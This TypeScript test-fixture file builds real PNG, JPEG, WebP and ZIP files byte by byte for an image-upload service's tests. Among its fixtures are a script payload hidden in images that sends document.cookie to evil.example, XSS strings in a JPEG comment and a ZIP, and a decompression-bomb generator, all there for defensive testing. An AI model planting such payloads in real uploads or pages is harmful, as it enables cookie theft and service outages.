/*
 * Image files built byte by byte for the upload tests (tests/worker/image-upload.test.ts). They are real files, not
 * just headers: the JPEGs are grey baseline or progressive images with valid Huffman data, the PNG a grey image in
 * stored (uncompressed) zlib blocks with correct CRCs and Adler-32, the lossless WebP a one-colour VP8L bitstream, so
 * a decoder shows each of them. Only the "header" fixtures (bombs, odd sizes) carry less pixel data than they declare.
 *
 * The CRC-32 and the PNG scanline layout here are written independently of the service's, so a test that checks them
 * does not grade the service with its own code.
 */

export type ByteSource = Uint8Array | readonly number[] | string;

const encoder = new TextEncoder();

export function concatBytes(...parts: ByteSource[]): Uint8Array {
  const arrays = parts.map((part) => (typeof part === 'string' ? encoder.encode(part) : Uint8Array.from(part)));
  const out = new Uint8Array(arrays.reduce((total, part) => total + part.length, 0));
  let at = 0;
  for (const part of arrays) {
    out.set(part, at);
    at += part.length;
  }
  return out;
}

/** Whether `needle` occurs anywhere in `haystack`, as bytes. */
export function containsBytes(haystack: Uint8Array, needle: ByteSource): boolean {
  const target = concatBytes(needle);
  outer: for (let start = 0; start + target.length <= haystack.length; start++) {
    for (let k = 0; k < target.length; k++) if (haystack[start + k] !== target[k]) continue outer;
    return true;
  }
  return false;
}

const be16 = (n: number) => [(n >>> 8) & 0xff, n & 0xff];
const be32 = (n: number) => [(n >>> 24) & 0xff, (n >>> 16) & 0xff, (n >>> 8) & 0xff, n & 0xff];
const le16 = (n: number) => [n & 0xff, (n >>> 8) & 0xff];
const le24 = (n: number) => [n & 0xff, (n >>> 8) & 0xff, (n >>> 16) & 0xff];
const le32 = (n: number) => [n & 0xff, (n >>> 8) & 0xff, (n >>> 16) & 0xff, (n >>> 24) & 0xff];

/** Bitwise CRC-32 (ISO-HDLC, as PNG and ZIP use it): slow and obviously right. */
export function crc32(data: Uint8Array): number {
  let crc = 0xffffffff;
  for (const byte of data) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit++) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return (crc ^ 0xffffffff) >>> 0;
}

// ─────────────────────────────────────────────── PNG ───────────────────────────────────────────────

export const PNG_SIGNATURE = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a];

export function pngChunk(type: string, data: ByteSource = []): Uint8Array {
  const body = concatBytes(type, data);
  return concatBytes(be32(body.length - 4), body, be32(crc32(body)));
}

/** zlib with stored (uncompressed) deflate blocks: valid for every inflater, and simple enough to write by hand. */
export function zlibStored(data: Uint8Array): Uint8Array {
  const blocks: ByteSource[] = [[0x78, 0x01]];
  for (let start = 0; start < data.length || start === 0; start += 0xffff) {
    const block = data.subarray(start, start + 0xffff);
    const final = start + 0xffff >= data.length ? 1 : 0;
    blocks.push([final, ...le16(block.length), ...le16(~block.length & 0xffff)], block);
    if (final) break;
  }
  let a = 1;
  let b = 0;
  for (const byte of data) {
    a = (a + byte) % 65521;
    b = (b + a) % 65521;
  }
  blocks.push(be32(((b << 16) | a) >>> 0));
  return concatBytes(...blocks);
}

export interface PngOptions {
  width?: number;
  height?: number;
  /** Chunks between IHDR and IDAT. */
  before?: Uint8Array[];
  /** Chunks between IDAT and IEND. */
  after?: Uint8Array[];
  /** Only the header's claim, with an empty IDAT: for sizes whose pixels would not fit in memory. */
  headerOnly?: boolean;
}

export interface PngFormat {
  /** 0 grey, 2 RGB, 3 palette, 4 grey and alpha, 6 RGBA. */
  colourType?: number;
  bitDepth?: number;
  interlaced?: boolean;
}

export function pngHeader(width: number, height: number, { colourType = 0, bitDepth = 8, interlaced = false }: PngFormat = {}): Uint8Array {
  return pngChunk('IHDR', [...be32(width), ...be32(height), bitDepth, colourType, 0, 0, interlaced ? 1 : 0]);
}

/** A mid-grey 8-bit greyscale PNG: each row is filter byte 0 and then one byte a pixel. */
export function png({ width = 320, height = 240, before = [], after = [], headerOnly = false }: PngOptions = {}): Uint8Array {
  const rows = new Uint8Array(headerOnly ? 0 : height * (width + 1)).fill(0x80);
  for (let row = 0; row < rows.length; row += width + 1) rows[row] = 0;
  return concatBytes(PNG_SIGNATURE, pngHeader(width, height), ...before, pngChunk('IDAT', zlibStored(rows)), ...after, pngChunk('IEND'));
}

/** Which of Adam7's seven passes (1–7) each pixel of an 8×8 tile belongs to, as the PNG specification draws it. */
const ADAM7_TILE = [
  [1, 6, 4, 6, 2, 6, 4, 6],
  [7, 7, 7, 7, 7, 7, 7, 7],
  [5, 6, 5, 6, 5, 6, 5, 6],
  [7, 7, 7, 7, 7, 7, 7, 7],
  [3, 6, 4, 6, 3, 6, 4, 6],
  [7, 7, 7, 7, 7, 7, 7, 7],
  [5, 6, 5, 6, 5, 6, 5, 6],
  [7, 7, 7, 7, 7, 7, 7, 7],
];

const PNG_CHANNELS: Record<number, number> = { 0: 1, 2: 3, 3: 1, 4: 2, 6: 4 };

/**
 * The pixel count of every scanline the image data holds, in order: one line per row, or for Adam7 the lines of each
 * pass, counted by visiting the pixels of the tile rather than by the specification's formula.
 */
function scanlineWidths(width: number, height: number, interlaced: boolean): number[] {
  if (!interlaced) return new Array<number>(height).fill(width);
  const widths: number[] = [];
  for (let pass = 1; pass <= 7; pass++) {
    for (let y = 0; y < height; y++) {
      let pixels = 0;
      for (let x = 0; x < Math.min(width, 8); x++) {
        if (ADAM7_TILE[y % 8]?.[x] === pass) pixels += Math.floor((width - 1 - x) / 8) + 1;
      }
      if (pixels > 0) widths.push(pixels);
    }
  }
  return widths;
}

/**
 * A PNG's image data before compression: each scanline a filter byte and its pixels. Filter 0 (none) everywhere unless
 * told, pixels a mid value (0x80, palette index 0 for palette images); `pixel` fills them with a pattern instead.
 */
export function pngScanlines(
  width: number,
  height: number,
  { colourType = 0, bitDepth = 8, interlaced = false }: PngFormat = {},
  { filter = 0, pixel = () => (colourType === 3 ? 0 : 0x80) }: { filter?: number; pixel?: (at: number) => number } = {},
): Uint8Array {
  const bitsPerPixel = (PNG_CHANNELS[colourType] ?? 1) * bitDepth;
  const lines = scanlineWidths(width, height, interlaced).map((pixels) => Math.ceil((pixels * bitsPerPixel) / 8));
  const out = new Uint8Array(lines.reduce((total, bytes) => total + 1 + bytes, 0));
  let at = 0;
  for (const bytes of lines) {
    out[at++] = filter;
    for (let k = 0; k < bytes; k++, at++) out[at] = pixel(at);
  }
  return out;
}

/** zlib (RFC 1950) as the platform's zlib writes it, with Huffman coding: what real encoders put in IDAT. */
export async function deflate(data: Uint8Array): Promise<Uint8Array> {
  const stream = new CompressionStream('deflate');
  const writer = stream.writable.getWriter();
  const compressed = new Response(stream.readable).arrayBuffer();
  for (let start = 0; start < data.length; start += 1 << 20) await writer.write(data.subarray(start, start + (1 << 20)));
  await writer.close();
  return new Uint8Array(await compressed);
}

/** zlib of `size` zero bytes, about a thousandth of that size: a decompression bomb. */
export async function zlibOfZeros(size: number): Promise<Uint8Array> {
  const stream = new CompressionStream('deflate');
  const writer = stream.writable.getWriter();
  const compressed = new Response(stream.readable).arrayBuffer();
  const block = new Uint8Array(1 << 20);
  for (let done = 0; done < size; done += block.length) await writer.write(block.subarray(0, Math.min(block.length, size - done)));
  await writer.close();
  return new Uint8Array(await compressed);
}

export async function inflate(data: Uint8Array): Promise<Uint8Array> {
  const stream = new Blob([data]).stream().pipeThrough(new DecompressionStream('deflate'));
  return new Uint8Array(await new Response(stream).arrayBuffer());
}

/**
 * A PNG of any colour type, depth and interlacing whose IDAT holds `scanlines` (by default the right number of them)
 * compressed by zlib, split over `idatChunks` chunks; a palette image gets a two-colour PLTE.
 */
export async function pngDeflated({
  width = 320,
  height = 240,
  format = {},
  scanlines = pngScanlines(width, height, format),
  before = [],
  after = [],
  idatChunks = 1,
}: {
  width?: number;
  height?: number;
  format?: PngFormat;
  scanlines?: Uint8Array;
  before?: Uint8Array[];
  after?: Uint8Array[];
  idatChunks?: number;
} = {}): Promise<Uint8Array> {
  const zlib = await deflate(scanlines);
  const size = Math.ceil(zlib.length / idatChunks);
  const idat = Array.from({ length: idatChunks }, (_, k) => pngChunk('IDAT', zlib.subarray(k * size, (k + 1) * size)));
  const palette = format.colourType === 3 ? [pngChunk('PLTE', [0x80, 0x80, 0x80, 0xff, 0xff, 0xff])] : [];
  return concatBytes(PNG_SIGNATURE, pngHeader(width, height, format), ...palette, ...before, ...idat, ...after, pngChunk('IEND'));
}

/** The image data of a PNG: its IDAT chunks' contents, joined. */
export function pngImageData(file: Uint8Array): Uint8Array {
  const view = new DataView(file.buffer, file.byteOffset, file.byteLength);
  const parts: Uint8Array[] = [];
  for (let pos = 8; pos + 12 <= file.length;) {
    const length = view.getUint32(pos);
    if (String.fromCharCode(...file.subarray(pos + 4, pos + 8)) === 'IDAT') parts.push(file.subarray(pos + 8, pos + 8 + length));
    pos += 12 + length;
  }
  return concatBytes(...parts);
}

/** cHRM's eight values for sRGB's white point and primaries, each ×100,000. */
export const CHRM_SRGB = [31270, 32900, 64000, 33000, 30000, 60000, 15000, 6000].flatMap(be32);

/** Every chunk of a PNG as [type, CRC stored, CRC computed]. */
export function pngChunks(file: Uint8Array): { type: string; storedCrc: number; computedCrc: number }[] {
  const view = new DataView(file.buffer, file.byteOffset, file.byteLength);
  const chunks = [];
  for (let pos = 8; pos + 12 <= file.length;) {
    const length = view.getUint32(pos);
    const type = String.fromCharCode(...file.subarray(pos + 4, pos + 8));
    chunks.push({ type, storedCrc: view.getUint32(pos + 8 + length), computedCrc: crc32(file.subarray(pos + 4, pos + 8 + length)) });
    pos += 12 + length;
  }
  return chunks;
}

// ─────────────────────────────────────────────── JPEG ───────────────────────────────────────────────

export function jpegSegment(marker: number, payload: ByteSource): Uint8Array {
  const body = concatBytes(payload);
  return concatBytes([0xff, marker, ...be16(body.length + 2)], body);
}

export interface JpegOptions {
  width?: number;
  height?: number;
  /** The APP0 segment after SOI (a plain JFIF by default); null for none. */
  app0?: Uint8Array | null;
  /** Segments right after APP0 (metadata, ICC, MPF…). */
  segments?: Uint8Array[];
  /** A two-scan progressive JPEG instead of a baseline one. */
  progressive?: boolean;
  /** Segments between the two scans of a progressive JPEG. */
  betweenScans?: Uint8Array[];
  /** Restart markers every this many blocks (baseline only). */
  restartInterval?: number;
  /** The frame marker (0xC0 baseline by default) and its sample precision. */
  frame?: number;
  precision?: number;
  /** A few blocks of scan data instead of all of them: for sizes whose data would not fit in the upload limit. */
  headerOnly?: boolean;
}

/**
 * `bits` zero bits of Huffman data, padded with ones to a byte as the standard asks. Every code used is '0': a DC
 * difference of category 0 and an end-of-block, so each 8×8 block is a flat grey.
 */
function zeroBits(bits: number): number[] {
  const bytes = new Array<number>(Math.ceil(bits / 8)).fill(0);
  if (bits % 8) bytes[bytes.length - 1] = 0xff >> (bits % 8);
  return bytes;
}

/**
 * A JFIF APP0: version 1.01, density units and values as given (none, 1:1 by default), and a thumbnail of
 * `thumbnail` × 1 pixels. `tail` is bytes after all that, which the segment's length covers and no field describes.
 */
export function jfifSegment({
  units = 0,
  density = [1, 1],
  thumbnail = 0,
  tail = '',
}: { units?: number; density?: [number, number]; thumbnail?: number; tail?: ByteSource } = {}): Uint8Array {
  const pixels = new Uint8Array(3 * thumbnail).fill(0x80);
  return jpegSegment(
    0xe0,
    concatBytes('JFIF\0', [1, 1, units, ...be16(density[0]), ...be16(density[1]), thumbnail, thumbnail ? 1 : 0], pixels, tail),
  );
}

const JFIF = jfifSegment();
const DQT = jpegSegment(0xdb, [0, ...new Array<number>(64).fill(1)]);
/** One code of length 1 for symbol 0: in the DC table, category 0; in the AC table, end of block. */
const dht = (tableClass: number) => jpegSegment(0xc4, [tableClass << 4, 1, ...new Array<number>(15).fill(0), 0]);

/** A grey greyscale JPEG, 320×240 unless told; decodes in libjpeg and browsers. */
export function jpeg({
  width = 320,
  height = 240,
  app0 = JFIF,
  segments = [],
  progressive = false,
  betweenScans = [],
  restartInterval,
  frame = progressive ? 0xc2 : 0xc0,
  precision = 8,
  headerOnly = false,
}: JpegOptions = {}): Uint8Array {
  const blocks = headerOnly ? 8 : Math.ceil(width / 8) * Math.ceil(height / 8);
  const sof = jpegSegment(frame, [precision, ...be16(height), ...be16(width), 1, 1, 0x11, 0]);
  const sos = (start: number, end: number) => jpegSegment(0xda, [1, 1, 0x00, start, end, 0]);
  const head = [[0xff, 0xd8], ...(app0 ? [app0] : []), ...segments, DQT, sof, dht(0)];
  if (progressive) {
    // First scan: the DC of every block (1 bit each); second: all AC coefficients as one end-of-band per block.
    return concatBytes(...head, sos(0, 0), zeroBits(blocks), dht(1), ...betweenScans, sos(1, 63), zeroBits(blocks), [0xff, 0xd9]);
  }
  const scan: ByteSource[] = [];
  if (restartInterval) {
    for (let done = 0, interval = 0; done < blocks; done += restartInterval, interval++) {
      if (done > 0) scan.push([0xff, 0xd0 + ((interval - 1) % 8)]);
      scan.push(zeroBits(2 * Math.min(restartInterval, blocks - done)));
    }
  } else {
    scan.push(zeroBits(2 * blocks));
  }
  const dri = restartInterval ? [jpegSegment(0xdd, be16(restartInterval))] : [];
  return concatBytes(...head, dht(1), ...dri, sos(0, 63), ...scan, [0xff, 0xd9]);
}

/** What an attacker hides in an image, hoping it is one day served as a page from the media domain. */
export const HTML_PAYLOAD = '<html><body><script>fetch("//evil.example/?c="+document.cookie)</script></body></html>';

/** The GPS coordinates the EXIF fixture carries, to look for after stripping. */
export const GPS_TEXT = 'GPS 12.9716 N 77.5946 E WGS-84';

/**
 * An APP1 EXIF segment: IFD0 with Orientation and a pointer to a GPS IFD (latitude reference and a map datum that
 * spells out the coordinates), as phones write them.
 */
export function exifSegment({ orientation = 6, littleEndian = false }: { orientation?: number; littleEndian?: boolean } = {}): Uint8Array {
  const u16 = (n: number) => (littleEndian ? le16(n) : be16(n));
  const u32 = (n: number) => (littleEndian ? le32(n) : be32(n));
  const shortValue = (n: number) => [...u16(n), 0, 0];
  const gpsIfd = 8 + 2 + 2 * 12 + 4;
  const gpsText = gpsIfd + 2 + 2 * 12 + 4;
  const tiff = concatBytes(
    littleEndian ? 'II' : 'MM',
    u16(42),
    u32(8),
    u16(2),
    [...u16(0x0112), ...u16(3), ...u32(1), ...shortValue(orientation)],
    [...u16(0x8825), ...u16(4), ...u32(1), ...u32(gpsIfd)],
    u32(0),
    u16(2),
    [...u16(0x0001), ...u16(2), ...u32(2), ...encoder.encode('N'), 0, 0, 0],
    [...u16(0x0012), ...u16(2), ...u32(GPS_TEXT.length + 1), ...u32(gpsText)],
    u32(0),
    GPS_TEXT,
    [0],
  );
  return jpegSegment(0xe1, concatBytes('Exif\0\0', tiff));
}

export const XMP_TEXT = '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:Description exif:GPSLatitude="12,58.296N"/></x:xmpmeta>';
export const xmpSegment = () => jpegSegment(0xe1, concatBytes('http://ns.adobe.com/xap/1.0/\0', XMP_TEXT));
export const iptcSegment = () =>
  jpegSegment(0xed, concatBytes('Photoshop 3.0\0', '8BIM', [0x04, 0x04, 0, 0], be32(12), [0x1c, 0x02, 0x5a], be16(9), 'Bengaluru'));
export const commentSegment = (text = '<script>alert(document.cookie)</script>') => jpegSegment(0xfe, text);
export const iccSegment = (profile: ByteSource = 'icc-profile-bytes') => jpegSegment(0xe2, concatBytes('ICC_PROFILE\0', [1, 1], profile));
/** Adobe's APP14: version 100, no flags, the colour transform (1: YCbCr), and whatever `tail` follows. */
export const adobeSegment = ({ transform = 1, tail = '' }: { transform?: number; tail?: ByteSource } = {}) =>
  jpegSegment(0xee, concatBytes('Adobe', [0, 100, 0, 0, 0, 0, transform], tail));
export const mpfSegment = () => jpegSegment(0xe2, concatBytes('MPF\0', 'MM', be16(42), be32(8), be16(0)));
export const orientationOnlyExif = (orientation: number) =>
  jpegSegment(
    0xe1,
    concatBytes('Exif\0\0', 'MM', be16(42), be32(8), be16(1), be16(0x0112), be16(3), be32(1), be16(orientation), [0, 0], be32(0)),
  );

/** The markers of a JPEG before its first scan, in order (e.g. 0xE0 for APP0). */
export function jpegMarkers(file: Uint8Array): number[] {
  const markers: number[] = [];
  for (let pos = 2; pos + 4 <= file.length;) {
    const marker = file[pos + 1] ?? 0;
    markers.push(marker);
    if (marker === 0xda) break;
    pos += 2 + (((file[pos + 2] ?? 0) << 8) | (file[pos + 3] ?? 0));
  }
  return markers;
}

// ─────────────────────────────────────────────── WebP ───────────────────────────────────────────────

export function riffChunk(fourcc: string, data: ByteSource): Uint8Array {
  const body = concatBytes(data);
  return concatBytes(fourcc, le32(body.length), body, body.length % 2 ? [0] : []);
}

export function riff(...chunks: Uint8Array[]): Uint8Array {
  const body = concatBytes('WEBP', ...chunks);
  return concatBytes('RIFF', le32(body.length), body);
}

/**
 * A lossless bitstream of one colour: no transforms, no colour cache, and five prefix codes that each hold a single
 * symbol, so every pixel takes zero bits after the header.
 */
export function vp8lChunk(width: number, height: number): Uint8Array {
  const bits: number[] = [];
  const write = (value: number, count: number) => {
    for (let bit = 0; bit < count; bit++) bits.push((value >>> bit) & 1);
  };
  write(width - 1, 14);
  write(height - 1, 14);
  write(0, 1 + 3 + 1 + 1 + 1); // alpha hint, version, transform, colour cache, meta prefix codes
  for (const symbol of [128, 128, 128, 255]) {
    write(0b101, 3); // simple code, one symbol, 8-bit symbol (green, red, blue, alpha)
    write(symbol, 8);
  }
  write(0b001, 3); // distance: simple code, one symbol, 1-bit symbol
  write(0, 1);
  const data = [0x2f];
  for (let start = 0; start < bits.length; start += 8)
    data.push(bits.slice(start, start + 8).reduce((byte, bit, k) => byte | (bit << k), 0));
  return riffChunk('VP8L', data);
}

/** A 320×240 grey lossy WebP made by libwebp (sharp, quality 50): a VP8 key frame is too intricate to write by hand. */
const LOSSY_SAMPLE =
  'UklGRrwAAABXRUJQVlA4ILAAAABQEwCdASpAAfAAPtFotFMoJiUioCgBABoJaW7hd2EbQAnsA99snIe+2TkPfbJyHvtk5D32ych77ZOQ99snIe+2TkPfbJyHvtk5D32ych77ZOQ99snIe+2TkPfbJyHvtk5D32ych77ZOQ99snIe+2TkPfbJyHvtk5D32ych77ZOQ99snIe+2TkPfbJyHvtk5D32ych77ZOQ99snIe+2TkPfbJiAAP648eAAAAAAAAAAAA==';

/** The VP8 chunk of the lossy sample (320×240). */
export function vp8Chunk(): Uint8Array {
  return Uint8Array.from(atob(LOSSY_SAMPLE), (char) => char.charCodeAt(0)).subarray(12);
}

export const webpLossless = (width = 320, height = 240) => riff(vp8lChunk(width, height));
export const webpLossy = () => riff(vp8Chunk());

export const VP8X_FLAGS = { icc: 0x20, alpha: 0x10, exif: 0x08, xmp: 0x04, animation: 0x02 } as const;

export function vp8xChunk(width: number, height: number, flags: number): Uint8Array {
  return riffChunk('VP8X', [flags, 0, 0, 0, ...le24(width - 1), ...le24(height - 1)]);
}

/** An extended WebP: VP8X, then `before` (e.g. ICCP), the bitstream, then `after` (e.g. EXIF, XMP). */
export function webpExtended({
  width = 320,
  height = 240,
  flags = 0,
  before = [],
  bitstream = vp8lChunk(width, height),
  after = [],
}: { width?: number; height?: number; flags?: number; before?: Uint8Array[]; bitstream?: Uint8Array; after?: Uint8Array[] } = {}) {
  return riff(vp8xChunk(width, height, flags), ...before, bitstream, ...after);
}

/** The EXIF payload of a WebP or PNG: the same TIFF structure as in JPEG, without the "Exif\0\0" prefix. */
export const exifTiff = () => exifSegment().subarray(4 + 6);

/** The fourccs of a WebP's chunks and the flags byte of its VP8X, if any. */
export function webpChunks(file: Uint8Array): { fourccs: string[]; riffSize: number; vp8xFlags: number | undefined } {
  const view = new DataView(file.buffer, file.byteOffset, file.byteLength);
  const fourccs = [];
  for (let pos = 12; pos + 8 <= file.length;) {
    fourccs.push(String.fromCharCode(...file.subarray(pos, pos + 4)));
    const size = view.getUint32(pos + 4, true);
    pos += 8 + size + (size % 2);
  }
  return { fourccs, riffSize: view.getUint32(4, true), vp8xFlags: fourccs[0] === 'VP8X' ? file[20] : undefined };
}

// ─────────────────────────────────────────────── not images ───────────────────────────────────────────────

/** A ZIP holding one stored file: local header, data, central directory, end record. */
export function zip(name = 'index.html', content = '<script>alert(1)</script>'): Uint8Array {
  const data = encoder.encode(content);
  const fileName = encoder.encode(name);
  const common = [
    ...le16(20),
    ...le16(0),
    ...le16(0),
    ...le16(0),
    ...le16(0),
    ...le32(crc32(data)),
    ...le32(data.length),
    ...le32(data.length),
  ];
  const local = concatBytes('PK\x03\x04', common, le16(fileName.length), le16(0), fileName, data);
  const central = concatBytes(
    'PK\x01\x02',
    le16(20),
    common,
    le16(fileName.length),
    le16(0),
    le16(0),
    le16(0),
    le16(0),
    le32(0),
    le32(0),
    fileName,
  );
  const end = concatBytes('PK\x05\x06', le16(0), le16(0), le16(1), le16(1), le32(central.length), le32(local.length), le16(0));
  return concatBytes(local, central, end);
}
